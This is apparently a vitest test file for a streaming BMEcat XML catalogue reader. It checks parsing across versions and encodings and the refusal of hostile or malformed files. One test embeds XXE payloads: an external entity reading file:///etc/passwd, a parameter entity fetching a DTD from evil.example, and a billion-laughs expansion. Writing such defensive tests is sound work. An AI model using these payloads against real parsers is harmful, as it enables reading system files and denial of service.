import { describe, expect, test } from 'vitest';
import type { BmecatPart } from './bmecat-item.ts';
import { readBmecat } from './read-bmecat.ts';
import { UnreadableCatalogue } from './unreadable-catalogue.ts';

async function* pieces(content: Uint8Array, size: number): AsyncGenerator<Uint8Array, void> {
  for (let at = 0; at < content.length; at += size) yield content.subarray(at, at + size);
}

const read = async (content: string | Uint8Array, size = 7): Promise<BmecatPart[]> => {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
  const parts: BmecatPart[] = [];
  for await (const part of readBmecat(pieces(bytes, size))) parts.push(part);
  return parts;
};
const refusalOf = async (content: string | Uint8Array, size = 65_536) => {
  const fault: unknown = await read(content, size).catch((error: unknown) => error);
  expect(fault).toBeInstanceOf(UnreadableCatalogue);
  return (fault as UnreadableCatalogue).reason;
};
const itemsOf = (parts: readonly BmecatPart[]) =>
  parts.flatMap((part) => (part.kind === 'item' ? [part.item] : []));

const header = `<HEADER><CATALOG><LANGUAGE>deu</LANGUAGE><CATALOG_ID>K1</CATALOG_ID><CATALOG_VERSION>1.0</CATALOG_VERSION>
  <CURRENCY>EUR</CURRENCY></CATALOG><SUPPLIER><SUPPLIER_NAME>Papier &amp; Stift</SUPPLIER_NAME></SUPPLIER></HEADER>`;
const old = (content: string) =>
  `<?xml version="1.0"?><BMECAT version="1.2" xmlns="http://www.bmecat.org/bmecat/1.2/bmecat_new_catalog">${header}<T_NEW_CATALOG>${content}</T_NEW_CATALOG></BMECAT>`;
const article = `<ARTICLE><SUPPLIER_AID>1000</SUPPLIER_AID><ARTICLE_DETAILS><DESCRIPTION_SHORT>Heft</DESCRIPTION_SHORT>
  <EAN>4260001000010</EAN><BUYER_AID type="KMF">78</BUYER_AID></ARTICLE_DETAILS>
  <ARTICLE_ORDER_DETAILS><ORDER_UNIT>PCE</ORDER_UNIT><QUANTITY_MIN>10</QUANTITY_MIN></ARTICLE_ORDER_DETAILS>
  <ARTICLE_PRICE_DETAILS><DATETIME type="valid_start_date"><DATE>2026-01-01</DATE><TIME>00:00:00</TIME><TIMEZONE>Z</TIMEZONE></DATETIME>
  <ARTICLE_PRICE price_type="net_customer"><PRICE_AMOUNT>1.295</PRICE_AMOUNT><TAX>0.19</TAX><LOWER_BOUND>1</LOWER_BOUND><TERRITORY>DE</TERRITORY></ARTICLE_PRICE>
  <ARTICLE_PRICE price_type="net_customer"><PRICE_AMOUNT>1.1</PRICE_AMOUNT><LOWER_BOUND>100</LOWER_BOUND></ARTICLE_PRICE></ARTICLE_PRICE_DETAILS>
  <ARTICLE_REFERENCE type="similar"><ART_ID_TO>2000</ART_ID_TO></ARTICLE_REFERENCE></ARTICLE>`;

describe('[OP2.bmecat] catalogues are read', () => {
  test('articles of version 1.2 with tiers, dates and what has no place of its own', async () => {
    const [first, item] = await read(old(article));
    expect(first).toMatchObject({
      kind: 'header',
      header: {
        version: '1.2',
        transaction: 'newCatalog',
        language: 'de',
        catalogId: 'K1',
        supplierName: 'Papier & Stift',
      },
    });
    expect(item).toMatchObject({
      kind: 'item',
      item: {
        supplierPid: '1000',
        mode: 'new',
        names: [{ language: 'de', text: 'Heft' }],
        gtin: '4260001000010',
        order: { orderUnit: 'PCE', minimum: '10', interval: '' },
        prices: [
          {
            type: 'net_customer',
            amount: '1.295',
            currency: 'EUR',
            tax: '0.19',
            lowerBound: '1',
            territories: ['DE'],
            validFrom: '2026-01-01T00:00:00Z',
          },
          { amount: '1.1', lowerBound: '100' },
        ],
        references: [{ type: 'similar', to: '2000', quantity: '' }],
        others: [{ path: 'PRODUCT_DETAILS/BUYER_PID@KMF', value: '78' }],
      },
    });
  });

  test('products of version 2005 in any namespace, with prefixes, languages, templates of features and logistics', async () => {
    const [, item] = await read(`<?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE BMECAT SYSTEM "bmecat_2005.dtd">
      <b:BMECAT version="2005" xmlns:b="http://www.bmecat.org/bmecat/2005+onto">${header.replaceAll(/<(\/?)/g, '<$1b:')}
      <b:T_UPDATE_PRODUCTS prev_version="3"><b:PRODUCT mode="delete"><b:SUPPLIER_PID>7</b:SUPPLIER_PID>
      <b:PRODUCT_DETAILS><b:DESCRIPTION_SHORT lang="deu">Lampe</b:DESCRIPTION_SHORT><b:DESCRIPTION_SHORT lang="eng">Lamp</b:DESCRIPTION_SHORT>
      <b:DESCRIPTION_SHORT lang="fra">Lampe</b:DESCRIPTION_SHORT><b:INTERNATIONAL_PID type="ean">4260001000010</b:INTERNATIONAL_PID></b:PRODUCT_DETAILS>
      <b:PRODUCT_FEATURES><b:REFERENCE_FEATURE_SYSTEM_NAME>ECLASS-9.0</b:REFERENCE_FEATURE_SYSTEM_NAME>
      <b:REFERENCE_FEATURE_GROUP_ID>27141137</b:REFERENCE_FEATURE_GROUP_ID><b:FEATURE_GROUP><b:FEATURE><b:FTEMPLATE><b:FT_ID>0173</b:FT_ID>
      <b:FT_NAME>Gewicht</b:FT_NAME></b:FTEMPLATE><b:FVALUE>0.2</b:FVALUE><b:FUNIT>KGM</b:FUNIT></b:FEATURE></b:FEATURE_GROUP></b:PRODUCT_FEATURES>
      <b:PRODUCT_LOGISTIC_DETAILS><b:COUNTRY_OF_ORIGIN>DE</b:COUNTRY_OF_ORIGIN></b:PRODUCT_LOGISTIC_DETAILS></b:PRODUCT></b:T_UPDATE_PRODUCTS></b:BMECAT>`);
    expect(item).toMatchObject({
      kind: 'item',
      item: {
        mode: 'delete',
        names: [
          { language: 'de', text: 'Lampe' },
          { language: 'en', text: 'Lamp' },
          { language: 'fra', text: 'Lampe' },
        ],
        gtin: '4260001000010',
        order: undefined,
        features: [
          {
            system: 'ECLASS-9.0',
            group: '27141137',
            id: '0173',
            names: [{ text: 'Gewicht' }],
            values: [{ text: '0.2' }],
            unit: 'KGM',
          },
        ],
        others: expect.arrayContaining([
          { path: 'PRODUCT_LOGISTIC_DETAILS/COUNTRY_OF_ORIGIN', value: 'DE' },
        ]) as unknown,
      },
    });
  });

  test('groups and the places of items in them', async () => {
    const parts = await read(
      old(`<CATALOG_GROUP_SYSTEM><CATALOG_STRUCTURE type="root"><GROUP_ID>1</GROUP_ID><GROUP_NAME>Alles</GROUP_NAME><PARENT_ID>0</PARENT_ID></CATALOG_STRUCTURE>
      </CATALOG_GROUP_SYSTEM>${article}<ARTICLE_TO_CATALOGGROUP_MAP><ART_ID>1000</ART_ID><CATALOG_GROUP_ID>1</CATALOG_GROUP_ID></ARTICLE_TO_CATALOGGROUP_MAP>`),
    );
    expect(parts.map(({ kind }) => kind)).toEqual(['header', 'group', 'item', 'place']);
    expect(parts[1]).toMatchObject({ group: { id: '1', parentId: '0', type: 'root' } });
    expect(parts[3]).toEqual({ kind: 'place', supplierPid: '1000', groupId: '1' });
  });

  test('in the encoding that the file names, whatever the pieces it comes in', async () => {
    const text = old(article.replace('Heft', 'Größe – weiß'));
    const latin = text.replace(
      '<?xml version="1.0"?>',
      '<?xml version="1.0" encoding="windows-1252"?>',
    );
    const inLatin = Buffer.from(latin.replace('–', '\u0096'), 'latin1');
    const inUtf16 = Buffer.from(`\uFEFF${text}`, 'utf16le');
    for (const content of [Buffer.from(text), Buffer.from(`\uFEFF${text}`), inLatin, inUtf16])
      for (const size of [1, 100_000])
        expect(itemsOf(await read(content, size))[0]?.names).toEqual([
          { language: 'de', text: 'Größe – weiß' },
        ]);
  });
});

describe('[OP2.bmecat] hostile and broken catalogues are refused', () => {
  test('external entities and those of a billion laughs are neither fetched nor expanded', async () => {
    const withType = (declarations: string, name: string) =>
      `<!DOCTYPE BMECAT [${declarations}]>${old(article.replace('Heft', `&${name};`)).replace('<?xml version="1.0"?>', '')}`;
    const laughs = Array.from(
      { length: 9 },
      (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
    );
    expect(await refusalOf(withType('<!ENTITY x SYSTEM "file:///etc/passwd">', 'x'))).toBe(
      'entities',
    );
    expect(await refusalOf(withType(`<!ENTITY l0 "ha">${laughs.join('')}`, 'l9'))).toBe('entities');
    expect(
      await refusalOf(withType('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;', 'x')),
    ).toBe('entities');
    expect(await refusalOf(old(article.replace('Heft', '&unknown;')))).toBe('notXml');
  });

  test.each([
    ['another document', '<html><body/></html>', 'notBmecat'],
    ['nothing', '', 'notBmecat'],
    ['a table', 'a;b;c\n1;2;3', 'notXml'],
    ['tags that do not match', old('<ARTICLE></PRODUCT>'), 'notXml'],
    ['a file that was cut off', old(article).slice(0, -60), 'cutOff'],
    ['elements in elements in elements', old('<X>'.repeat(50)), 'tooDeep'],
    [
      'an item of a million elements',
      old(`<ARTICLE>${'<X/>'.repeat(200_001)}</ARTICLE>`),
      'tooBig',
    ],
    ['a text without end', old(`<ARTICLE><X>${'x'.repeat(8_100_000)}`), 'tooBig'],
    ['an attribute without end', old(`<ARTICLE x="${'x'.repeat(8_100_000)}`), 'tooBig'],
    ['a comment without end', old(`<!-- ${'x'.repeat(8_100_000)}`), 'tooBig'],
  ])('%s', async (_, content, reason) => {
    expect(await refusalOf(content)).toBe(reason);
  });

  test('bytes that are not in the encoding of the file', async () => {
    expect(await refusalOf(Buffer.from(old(article.replace('Heft', 'Größe')), 'latin1'))).toBe(
      'wrongEncoding',
    );
    expect(
      await refusalOf(
        old(article).replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="klingon"?>'),
      ),
    ).toBe('wrongEncoding');
  });

  test('what came before the fault is given', async () => {
    const found: BmecatPart[] = [];
    const content = Buffer.from(old(`${article}<ARTICLE></PRODUCT>`));
    await expect(async () => {
      for await (const part of readBmecat(pieces(content, 50))) found.push(part);
    }).rejects.toThrow(UnreadableCatalogue);
    expect(itemsOf(found)).toHaveLength(1);
  });
});
